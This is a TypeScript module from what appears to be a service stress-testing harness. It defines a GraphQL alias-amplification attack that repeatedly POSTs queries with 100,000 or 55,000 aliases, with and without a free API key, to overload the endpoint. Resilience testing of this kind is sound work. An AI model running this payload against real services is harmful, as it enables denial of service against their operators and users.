import type { Attack } from '../attack.js'

const aliases = (count: number): Buffer =>
  Buffer.from(JSON.stringify({ query: `{${Array.from({ length: count }, (_, at) => `a${at}:__typename`).join(' ')}}` }))

export const graphqlAliases: Attack = {
  name: 'graphql-aliases',
  summary: 'GraphQL documents of 100,000 aliases (free key) and of 55,000 (no key, 1 MB)',
  prepare({ call, freeKey }) {
    const [many, fewer] = [aliases(100_000), aliases(55_000)]
    let turn = 0
    return {
      concurrency: 4,
      strike: async () =>
        void (await (turn++ % 2 === 0
          ? call('POST', '/graphql', { key: freeKey, body: many })
          : call('POST', '/graphql', { body: fewer }))),
    }
  },
}
